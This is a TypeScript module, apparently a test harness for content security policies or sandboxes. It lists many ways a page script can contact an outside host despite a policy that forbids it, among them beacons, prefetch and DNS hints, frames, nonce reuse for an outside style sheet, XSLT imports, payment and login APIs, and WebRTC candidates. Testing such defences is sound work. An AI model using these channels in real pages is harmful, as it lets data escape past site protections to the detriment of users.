/** The target of a script's attempts to send something: `web` is an http(s) origin without its scheme. */
export interface Target {
  readonly address: string;
  readonly port: number;
  readonly web: string;
  /** The end of a name that would have to be looked up. */
  readonly domain: string;
}

/**
 * All ways in which a script in a page can send something out, with or without a policy that forbids it. Each
 * runs in the page on its own, uses nothing from this file, and may fail in any way.
 */
export const waysOut: Readonly<Record<string, (to: Target) => unknown>> = {
  fetch: ({ web }) => fetch(`http://${web}/fetch`, { mode: 'no-cors', keepalive: true }),
  request: ({ web }) => {
    const request = new XMLHttpRequest();
    request.open('POST', `http://${web}/request`);
    request.send('x');
  },
  beacon: ({ web }) => navigator.sendBeacon(`http://${web}/beacon`, 'x'),
  sockets: ({ web }) => [
    new WebSocket(`ws://${web}/socket`),
    new EventSource(`http://${web}/events`),
  ],
  'web transport': ({ web }) => new WebTransport(`https://${web}/transport`).ready,
  images: ({ web }) => {
    new Image().src = `http://${web}/image`;
    document.body.insertAdjacentHTML(
      'beforeend',
      `<svg class="out"><image href="http://${web}/svg" /><use href="http://${web}/use#a" /></svg>`,
    );
  },
  media: ({ web }) => new Audio(`http://${web}/audio`).load(),
  scripts: ({ web }) => {
    for (const type of ['text/javascript', 'module']) {
      const script = document.createElement('script');
      Object.assign(script, { type, src: `http://${web}/script` });
      document.head.append(script);
    }
  },
  workers: ({ web }) => {
    const code = `importScripts("http://${web}/worker")`;
    return new Worker(URL.createObjectURL(new Blob([code])));
  },
  'a style sheet with the nonce': async ({ web }) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.nonce =
      document.querySelector<HTMLMetaElement>('meta[name="csp-nonce"]')?.content ??
      document.querySelector<HTMLElement>('style[nonce]')?.nonce ??
      '';
    if (link.nonce === '') throw new Error('The page has no nonce.');
    link.href = `http://${web}/style`;
    const settled = new Promise((resolve) => {
      link.onload = resolve;
      link.onerror = resolve;
    });
    document.head.append(link);
    await settled;
    const style = document.createElement('style');
    style.nonce = link.nonce;
    style.textContent = `@import "http://${web}/import"; @font-face { font-family: x; src: url(http://${web}/font) } body { font-family: x; cursor: url(http://${web}/cursor), auto }`;
    document.head.append(style);
  },
  hints: ({ web, domain }) => {
    for (const rel of ['prefetch', 'prerender', 'preload', 'modulepreload', 'icon', 'manifest']) {
      const link = document.createElement('link');
      Object.assign(link, { rel, as: 'fetch', href: `http://${web}/${rel}` });
      document.head.append(link);
    }
    for (const rel of ['dns-prefetch', 'preconnect']) {
      const link = document.createElement('link');
      Object.assign(link, { rel, href: `http://${rel}.${domain}` });
      document.head.append(link);
    }
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = `{"prefetch":[{"source":"list","urls":["http://${web}/speculation"]}]}`;
    document.head.append(rules);
  },
  'hints in frames': ({ domain }) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<link rel="dns-prefetch" href="http://srcdoc.${domain}">`;
    document.body.append(frame);
    const blank = document.createElement('iframe');
    document.body.append(blank);
    const inside = blank.contentDocument;
    const link = inside?.createElement('link');
    if (link === undefined) throw new Error('The frame cannot be reached.');
    Object.assign(link, { rel: 'dns-prefetch', href: `http://blank.${domain}` });
    inside?.head.append(link);
  },
  frames: ({ web }) => {
    for (const element of ['iframe', 'embed', 'object', 'fencedframe']) {
      const frame = document.createElement(element);
      frame.setAttribute(element === 'object' ? 'data' : 'src', `http://${web}/${element}`);
      document.body.append(frame);
    }
    for (const html of [
      `<img src="http://${web}/in-frame">`,
      `<meta http-equiv="refresh" content="0; url=http://${web}/refresh">`,
    ]) {
      const frame = document.createElement('iframe');
      frame.srcdoc = html;
      document.body.append(frame);
    }
  },
  navigation: ({ web, domain }) => {
    location.href = `http://${web}/navigation`;
    location.href = `http://navigation.${domain}/`;
    window.open(`http://${web}/window`);
    const frame = document.createElement('iframe');
    document.body.append(frame);
    frame.contentWindow?.location.replace(`http://${web}/frame`);
  },
  links: ({ web, domain }) => {
    for (const more of [{ download: 'x' }, { target: '_blank' }, { ping: `http://${web}/ping` }]) {
      const link = document.createElement('a');
      Object.assign(link, { href: `http://${web}/link` }, more);
      document.body.append(link);
      link.click();
      link.href = `http://link.${domain}/`;
      link.click();
    }
  },
  forms: ({ web }) => {
    const form = document.createElement('form');
    form.action = `http://${web}/form`;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  },
  'a style of XSLT': ({ web }) => {
    const style = `<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:import href="http://${web}/import.xsl"/></x:stylesheet>`;
    const processor = new XSLTProcessor();
    processor.importStylesheet(new DOMParser().parseFromString(style, 'application/xml'));
    processor.transformToFragment(document, document);
  },
  'log-in by a provider': ({ web }) =>
    navigator.credentials.get({
      identity: { providers: [{ configURL: `https://${web}/provider.json`, clientId: '1' }] },
    } as CredentialRequestOptions),
  payment: ({ web }) =>
    new PaymentRequest([{ supportedMethods: `https://${web}/pay` }], {
      total: { label: 'x', amount: { currency: 'USD', value: '1' } },
    }).show(),
  'WebRTC servers': async ({ address, port }) => {
    const at = `${address}:${port}`;
    const login = { username: 'u', credential: 'c' };
    const connection = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:${at}` },
        { urls: `turn:${at}?transport=udp`, ...login },
        { urls: `turn:${at}?transport=tcp`, ...login },
        { urls: `turns:${at}?transport=tcp`, ...login },
      ],
    });
    const gathered = new Promise<void>((resolve) => {
      connection.onicegatheringstatechange = () => {
        if (connection.iceGatheringState === 'complete') resolve();
      };
    });
    connection.createDataChannel('x');
    await connection.setLocalDescription();
    await gathered;
  },
  'WebRTC peers, out of a frame': async ({ address, port }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const inside = frame.contentWindow as (Window & typeof globalThis) | null;
    if (inside === null) throw new Error('The frame cannot be reached.');
    const connection = new inside.RTCPeerConnection();
    const tried = new Promise<void>((resolve) => {
      connection.oniceconnectionstatechange = () => {
        if (['disconnected', 'failed'].includes(connection.iceConnectionState)) resolve();
      };
    });
    connection.createDataChannel('x');
    const { sdp = '' } = await connection.createOffer();
    await connection.setLocalDescription();
    await connection.setRemoteDescription({
      type: 'answer',
      sdp: sdp
        .replaceAll('a=setup:actpass', 'a=setup:active')
        .replaceAll(/a=ice-ufrag:.*/g, 'a=ice-ufrag:WhatIsSent')
        .replaceAll(/a=candidate.*\r\n/g, ''),
    });
    for (const candidate of [
      `candidate:1 1 udp 2122260223 ${address} ${port} typ host`,
      `candidate:2 1 tcp 1518280447 ${address} ${port} typ host tcptype passive`,
    ]) {
      await connection.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
    }
    await tried;
  },
};
